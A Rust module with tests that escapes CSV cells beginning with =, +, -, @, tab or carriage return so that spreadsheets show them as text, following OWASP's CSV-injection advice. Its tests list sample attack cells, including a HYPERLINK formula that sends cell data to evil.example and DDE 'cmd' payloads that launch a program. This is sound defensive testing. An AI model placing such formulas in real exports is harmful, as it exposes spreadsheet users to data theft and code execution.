//! Cells of the CSV exports made safe to open in a spreadsheet: a cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
//! Excel, LibreOffice and Google Sheets as a formula (`=HYPERLINK(...)`
//! sends the reader's data away, `=cmd|...` ran programs in old versions).
//! Such a cell gets a leading apostrophe, which spreadsheets show as text
//! and hide; numbers (`-3`, `+1.5`) stay numbers. OWASP's "CSV injection"
//! advice, applied to every text a resident can write.

use std::borrow::Cow;

/// `cell`, with an apostrophe in front if a spreadsheet would read it as a
/// formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_signed_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-3`, `+1.5`: a sign then digits with at most one point (not `-inf`,
/// which Rust would parse and a spreadsheet would not).
fn is_signed_number(cell: &str) -> bool {
    let digits = &cell[1..];
    cell.starts_with(['+', '-'])
        && digits.chars().any(|c| c.is_ascii_digit())
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.matches('.').count() <= 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_everything_else_is_left_alone() {
        for attack in [
            "=HYPERLINK(\"https://evil.example/?\"&A1, \"cliquez\")",
            "=cmd|' /C calc'!A0",
            "+SUM(1,2)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "-inf",
            "-",
            "+.",
        ] {
            let safe = neutralise(attack);
            assert_eq!(safe, format!("'{attack}"), "{attack:?}");
        }
        for plain in [
            "Des bancs",
            "",
            "42",
            "-3",
            "+1.5",
            "2026-12-04",
            "a=b",
            "'déjà",
        ] {
            assert_eq!(neutralise(plain), plain);
        }
    }
}
